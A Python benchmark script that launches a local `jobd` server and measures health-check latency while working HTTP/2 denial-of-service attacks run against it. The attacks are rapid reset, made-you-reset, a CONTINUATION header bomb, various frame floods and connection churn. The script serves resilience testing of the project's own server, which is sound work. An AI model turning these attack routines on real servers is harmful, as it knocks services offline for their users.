#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What an attacker does to the others: p99 of a health check on an open connection, in turns without and with an attack.

The server has CPU 0. Attacker and calm client share CPU 1, where the calm client goes first (SCHED_FIFO, as root): what it
waits for is the server, not the attacker's own work. The attacker opens a connection again as soon as it loses one.

  Benchmarks/attacks.py [--jobd PROGRAM] [--rounds N] [--seconds S] [--attacks NAME ...]

Needs hpack (scripts/requirements-test.txt), and `swift build -c release --static-swift-stdlib --product jobd`.
"""
import argparse
import multiprocessing
import os
import pathlib
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path.append(str(HERE.parent / "Tests" / "InteropTests"))

from abuse_connection import (  # noqa: E402
    ACK, CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, Connection, block, frame, message, reset, settings,
    text, window_update)

HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
CHUNK_BYTES = 64 << 10
PAUSE = 0.002


def many(piece):
    return piece * (CHUNK_BYTES // len(piece) + 1)


def opened(connection):
    """A stream that stays open."""
    return connection.open(WATCH)[0]


def flood(piece, prelude=lambda connection: b""):
    """A connection that sends the same again and again, until the server ends it."""
    chunk = many(piece)

    def attack(address, end):
        with Connection(address) as connection:
            connection.send(prelude(connection))
            while time.monotonic() < end and connection.send(chunk):
                drain(connection.socket)

    return attack


def drain(sock):
    """Takes what the server says, so that it is not the socket that stops it."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass
    sock.settimeout(5)


def rapid_reset(address, end):
    with Connection(address) as connection:
        while time.monotonic() < end:
            pieces = []
            for _ in range(200):
                head, stream = connection.open(WATCH)
                pieces.append(head + frame(DATA, message(b""), END_STREAM, stream) + reset(stream))
            if not connection.send(b"".join(pieces)):
                return
            drain(connection.socket)


def made_you_reset(address, end):
    with Connection(address) as connection:
        while time.monotonic() < end:
            pieces = []
            for _ in range(200):
                head, stream = connection.open(WATCH)
                pieces.append(head + frame(DATA, message(b""), END_STREAM, stream) + window_update(stream, 0x7FFFFFFF))
            if not connection.send(b"".join(pieces)):
                return
            drain(connection.socket)


def header_bomb(address, end):
    with Connection(address) as connection:
        filler = b"\x40" + text("x") + text("y" * 4000)
        while time.monotonic() < end:
            head, stream = connection.open(HEALTH, flags=0)
            bomb = head + frame(CONTINUATION, filler + b"\xbe" * 12_000, 4, stream) + reset(stream)
            if not connection.send(bomb):
                return
            drain(connection.socket)


def open_and_close(address, end):
    host, port = address.rsplit(":", 1)
    with socket.socket() as sock:
        sock.connect((host, int(port)))


def open_and_greet(address, end):
    Connection(address).close()


ATTACKS = {
    "rapid reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "SETTINGS": flood(settings()),
    "SETTINGS with windows": flood(settings((4, 0), (4, 65_535)), opened),
    "PING": flood(frame(PING, b"12345678")),
    "PING answers": flood(frame(PING, b"12345678", ACK)),
    "empty DATA": flood(frame(DATA, b"", 0, 1), opened),
    "PRIORITY": flood(frame(PRIORITY, b"\0\0\0\0\1", 0, 5)),
    "WINDOW_UPDATE": flood(window_update(0, 1)),
    "CONTINUATION": flood(
        frame(CONTINUATION, b"", 0, 1), lambda connection: frame(HEADERS, block(HEALTH), 0, connection.take_stream())),
    "unknown frames": flood(frame(0x42, b"x" * 100)),
    "header bomb": header_bomb,
    "connections": open_and_close,
    "connections that greet": open_and_greet,
}


def attack_for(name, address, seconds, told):
    """Attacks as fast as it can; tells how many connections it had."""
    os.sched_setaffinity(0, {1})
    end = time.monotonic() + seconds
    count = 0
    try:
        while time.monotonic() < end:
            try:
                ATTACKS[name](address, end)
            except OSError:
                pass
            count += 1
    finally:
        told.put(count)


def calm_for(address, seconds, told):
    """Asks for health again and again on one connection; tells the p50 and p99 in milliseconds."""
    os.sched_setaffinity(0, {1})
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    except OSError:
        pass
    times = []
    with Connection(address) as connection:
        frames = connection.frames(seconds + 10)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            ask, stream = connection.request(HEALTH, b"")
            begin = time.monotonic()
            connection.send(ask)
            for kind, flags, on, _ in frames:
                if on == stream and kind == HEADERS and flags & END_STREAM:
                    break
            times.append(time.monotonic() - begin)
            time.sleep(PAUSE)
    cuts = statistics.quantiles(times, n=100)
    told.put((cuts[49] * 1e3, cuts[98] * 1e3))


def measure(address, seconds, name=None):
    """p50 and p99 of the calm client, and the attacker's connections."""
    told, counted = multiprocessing.Queue(), multiprocessing.Queue()
    calm = multiprocessing.Process(target=calm_for, args=(address, seconds, told))
    calm.start()
    count = 0
    if name:
        time.sleep(0.1)
        attacker = multiprocessing.Process(target=attack_for, args=(name, address, seconds, counted))
        attacker.start()
        count = counted.get(timeout=seconds + 30)
        attacker.join()
    result = told.get(timeout=seconds + 30)
    calm.join()
    return (*result, count)


class Daemon:
    """`jobd serve` on CPU 0, ended by its own process id."""

    def __init__(self, program, folder):
        log = os.path.join(folder, "log")
        argv = ["taskset", "-c", "0", program, "serve", "--listen", "127.0.0.1:0", "--data-dir", os.path.join(folder, "data")]
        with open(log, "wb") as file:
            self.process = subprocess.Popen(argv, stdout=file, stderr=file)
        end = time.monotonic() + 20
        while True:
            found = re.search(r"jobd listening on (\S+)", pathlib.Path(log).read_text())
            if found:
                self.address = found.group(1)
                return
            if self.process.poll() is not None or time.monotonic() > end:
                raise SystemExit(f"jobd does not serve:\n{pathlib.Path(log).read_text()}")
            time.sleep(0.02)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--jobd", default=str(HERE.parent / ".build/release/jobd"))
    parser.add_argument("--rounds", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--attacks", nargs="+", choices=ATTACKS, default=list(ATTACKS))
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, Daemon(options.jobd, folder) as daemon:
        measure(daemon.address, 1)
        for name in options.attacks:
            rounds = []
            for _ in range(options.rounds):
                calm = measure(daemon.address, options.seconds)
                rounds.append((calm, measure(daemon.address, options.seconds, name)))
            middle = sorted(rounds, key=lambda pair: pair[1][1] / pair[0][1])[len(rounds) // 2]
            (_, before, _), (half, after, count) = middle
            print(f"| {name} | {before:.2f} ms | {half:.2f} ms | {after:.2f} ms | {after / before:.1f} | {count} |", flush=True)


if __name__ == "__main__":
    main()
